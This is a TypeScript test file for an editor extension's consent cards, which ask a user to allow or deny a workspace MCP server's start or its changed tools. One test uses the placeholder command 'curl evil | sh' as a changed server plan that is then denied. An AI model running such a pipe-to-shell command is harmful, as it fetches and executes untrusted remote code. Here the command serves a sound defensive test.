import * as assert from 'assert';
import { McpConsentPrompts, type ConsentRequest } from '../../../../src/host/mcp/mcpConsentPrompts';
import { WebviewChannel } from '../../../../src/host/view/webviewChannel';
import {
	PROTOCOL_VERSION,
	parseHostMessage,
	parseWebviewMessage,
	type HostToWebview,
	type McpConsentView,
} from '../../../../src/shared/protocol';

const repo: ConsentRequest = {
	key: 'workspace:file:///a:repo#f1',
	server: 'repo',
	source: '.vscode/mcp.json',
	runs: "/usr/bin/node server.js --name 'my repo'",
	details: ['in /a'],
};

function setup() {
	const posted: HostToWebview[] = [];
	const channel = new WebviewChannel();
	let shown = 0;
	const said: string[] = [];
	const prompts = new McpConsentPrompts(
		channel,
		() => shown++,
		text => said.push(text),
	);
	channel.open(
		m => void (m.type !== 'didRefuseProtocol' && posted.push(m)),
		PROTOCOL_VERSION,
		() => ({
			type: 'didSnapshot',
			state: { sessionId: 's', busy: false, items: [], olderCount: 0, modelLabel: 'm' },
		}),
	);
	const cards = (): McpConsentView[] => {
		const last = posted.filter(m => m.type === 'didSetMcpConsents').at(-1);
		return last?.type === 'didSetMcpConsents' ? last.consents : [];
	};
	return { posted, channel, prompts, cards, said, shown: () => shown };
}

describe('McpConsentPrompts (the in-chat card that asks to start a workspace MCP server)', () => {
	it("shows a pending card with the command line, and resolves with the user's Allow; the answered card leaves", async () => {
		const { prompts, cards, said } = setup();
		const answer = prompts.ask(repo, false);
		assert.deepStrictEqual(
			cards().map(c => [c.server, c.source, c.runs, c.state]),
			[['repo', '.vscode/mcp.json', "/usr/bin/node server.js --name 'my repo'", 'pending']],
		);
		prompts.decide(cards()[0].id, true);
		assert.strictEqual(await answer, true);
		assert.deepStrictEqual(cards(), [], 'an answered card does not linger above the composer');
		assert.deepStrictEqual(said, [
			"Allowed the MCP server repo to start (/usr/bin/node server.js --name 'my repo').",
		]);
	});

	it('Deny resolves false; a second click or an unknown id changes nothing', async () => {
		const { prompts, cards, said } = setup();
		const answer = prompts.ask(repo, false);
		const id = cards()[0].id;
		prompts.decide(id, false);
		prompts.decide(id, true);
		prompts.decide('mcp-consent-999', true);
		assert.strictEqual(await answer, false);
		assert.deepStrictEqual(cards(), []);
		assert.strictEqual(said.length, 1);
		assert.match(said[0], /^Denied the MCP server repo/);
	});

	it('asking again while a card is open reuses it; the chat is brought forward only when the user started it', async () => {
		const { prompts, cards, shown } = setup();
		const first = prompts.ask(repo, false);
		const second = prompts.ask(repo, true);
		assert.strictEqual(cards().length, 1);
		assert.strictEqual(shown(), 0);
		prompts.decide(cards()[0].id, true);
		assert.deepStrictEqual(await Promise.all([first, second]), [true, true]);
		void prompts.ask({ ...repo, key: 'other#f', server: 'other' }, true);
		assert.strictEqual(shown(), 1);
	});

	it('a reloaded chat gets the pending cards again and no longer the answered ones', () => {
		const { prompts, channel, cards } = setup();
		void prompts.ask(repo, false);
		void prompts.ask({ ...repo, key: 'other#f', server: 'other' }, false);
		prompts.decide(cards()[0].id, true);
		channel.reset({
			type: 'didSnapshot',
			state: { sessionId: 's2', busy: false, items: [], olderCount: 0, modelLabel: 'm' },
		});
		assert.deepStrictEqual(
			cards().map(c => [c.server, c.state]),
			[['other', 'pending']],
		);
	});

	it("the messages both ways pass the protocol's validation", () => {
		const { posted, prompts, cards } = setup();
		void prompts.ask(
			{ ...repo, key: 'remote#f', server: 'remote', runs: 'connect to https://example.test/mcp' },
			false,
		);
		assert.ok(parseHostMessage(posted.at(-1)));
		assert.strictEqual(cards()[0].runs, 'connect to https://example.test/mcp');
		assert.ok(parseWebviewMessage({ type: 'decideMcpConsent', id: cards()[0].id, allow: true }));
		assert.strictEqual(
			parseWebviewMessage({ type: 'decideMcpConsent', id: cards()[0].id, allow: 'yes' }),
			undefined,
		);
	});

	it('a card for the same name with another plan, or from another folder, is a card of its own', async () => {
		const { prompts, cards } = setup();
		const first = prompts.ask(repo, false);
		const changed = prompts.ask({ ...repo, key: 'workspace:file:///a:repo#f2', runs: 'curl evil | sh' }, false);
		const elsewhere = prompts.ask({ ...repo, key: 'workspace:file:///b:repo#f1' }, false);
		const ids = cards().map(c => c.id);
		assert.strictEqual(ids.length, 3);
		prompts.decide(ids[0], true);
		assert.strictEqual(await first, true);
		prompts.decide(ids[1], false);
		prompts.decide(ids[2], false);
		assert.deepStrictEqual(await Promise.all([changed, elsewhere]), [false, false]);
	});

	it('the answer to a changed-tools card says what was allowed or kept off: the tools, not a start', async () => {
		const { prompts, cards, said } = setup();
		const tools = { ...repo, key: 'tools:repo#h1', kind: 'tools' as const };
		const allowed = prompts.ask(tools, false);
		prompts.decide(cards()[0].id, true);
		assert.strictEqual(await allowed, true);
		const denied = prompts.ask({ ...tools, key: 'tools:repo#h2' }, false);
		prompts.decide(cards()[0].id, false);
		assert.strictEqual(await denied, false);
		assert.deepStrictEqual(said, [
			'Allowed the new or changed tools of the MCP server repo.',
			'Kept the new or changed tools of the MCP server repo off; the rest of its tools stay on.',
		]);
	});
});
